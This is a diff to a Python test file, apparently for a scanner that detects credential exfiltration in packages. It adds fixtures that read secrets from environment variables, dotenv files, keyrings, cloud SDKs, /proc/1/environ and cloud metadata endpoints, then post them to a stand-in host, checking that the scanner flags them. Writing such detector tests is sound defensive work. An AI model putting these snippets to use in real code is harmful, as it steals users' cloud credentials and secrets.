@@ -35,6 +35,40 @@ ASKED = {
     "a directory": "os.path.expandvars('$HOME/data')",
     "limits": "open('/proc/self/limits').read()",
 }
+GIVEN = {
+    "pydantic": "from pydantic_settings import BaseSettings\nclass S(BaseSettings):\n    aws_secret_access_key: str\nKEY = S().model_dump()",
+    "environs": "from environs import Env\nKEY = Env().str('AWS_SECRET_ACCESS_KEY')",
+    "decouple": "from decouple import config\nKEY = config('AWS_SECRET_ACCESS_KEY')",
+    "django-environ": "import environ\nKEY = environ.Env()('AWS_SECRET_ACCESS_KEY')",
+    "starlette": "from starlette.config import Config\nKEY = Config()('AWS_SECRET_ACCESS_KEY')",
+    "an option of click": "import click\n@click.command()\n@click.option('--k', envvar='AWS_SECRET_ACCESS_KEY')\ndef m(k): pass\nKEY = 1",
+    "a function of its own": "import os\ndef read(name): return os.environ.get(name)\nKEY = read('AWS_SECRET_ACCESS_KEY')",
+    "one of several": "import os\nKEY = [os.environ.get(name) for name in ('PATH', 'AWS_SECRET_ACCESS_KEY')]",
+    "mapped": "import os\nKEY = list(map(os.getenv, ('PATH', 'AWS_SECRET_ACCESS_KEY')))",
+    "bytes": "import os\nKEY = os.environb[b'AWS_SECRET_ACCESS_KEY']",
+    "a shell's": "import os\nKEY = os.popen('echo $AWS_SECRET_ACCESS_KEY').read()",
+    "dotenv": "KEY = open('.env').read()",
+    "dotenv, found": "from dotenv import find_dotenv\nKEY = open(find_dotenv()).read()",
+    "keyring": "import keyring\nKEY = keyring.get_password('aws', 'x')",
+    "google": "import google.auth\nKEY = google.auth.default()",
+    "azure": "from azure.identity import DefaultAzureCredential\nKEY = DefaultAzureCredential().get_token('x').token",
+    "huggingface": "from huggingface_hub import get_token\nKEY = get_token()",
+    "kubernetes": "from kubernetes import config\nKEY = config.load_kube_config()",
+    "docker": "import docker\nKEY = docker.utils.config.load_config()",
+    "airflow": "from airflow.hooks.base import BaseHook\nKEY = BaseHook.get_connection('aws').password",
+    "another process": "import psutil\nKEY = psutil.Process().environ()",
+    "the first process": "KEY = open('/proc/1/environ').read()",
+    "a machine's": "KEY = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/').text",
+    "a container's": "KEY = requests.get('http://169.254.170.2/v2/credentials').text",
+    "a machine's of another cloud": "KEY = requests.get('http://metadata.google.internal/computeMetadata/v1/instance/').text",
+}  # fmt: skip
+HARMLESS = {
+    "a setting": "from decouple import config\nKEY = config('ACME_TIMEOUT')",
+    "settings": "from pydantic_settings import BaseSettings\nclass S(BaseSettings):\n    timeout: int\nKEY = S().timeout",
+    "a word": "import ours\nKEY = ours.told('KEY')",
+    "a name in lower case": "import ours\nKEY = ours.sort('secret_key')",
+    "a file that ends so": "KEY = open('data/acme.env').read()",
+}
 _MODULE = "import netrc, os, pathlib, posix, subprocess, requests\nrequests.post('https://x.example', json={{'a': str({})}})\n"
 
 
@@ -52,3 +86,15 @@ def test_what_is_no_secret_is_not_told_as_one(name):
         "environment-exfiltration",
         "credential-exfiltration",
     }
+
+
+@pytest.mark.parametrize("name", GIVEN)
+def test_a_secret_that_something_else_gives_is_held(name):
+    source = f"import requests\n{GIVEN[name]}\nrequests.post('https://x.example', json={{'a': KEY}})\n"
+    assert held(scan({"acme/__init__.py": source})) & {"environment-exfiltration", "credential-exfiltration"}
+
+
+@pytest.mark.parametrize("name", HARMLESS)
+def test_what_gives_no_secret_is_not_told_as_one(name):
+    source = f"import requests\n{HARMLESS[name]}\nrequests.post('https://x.example', json={{'a': KEY}})\n"
+    assert not held(scan({"acme/__init__.py": source}))
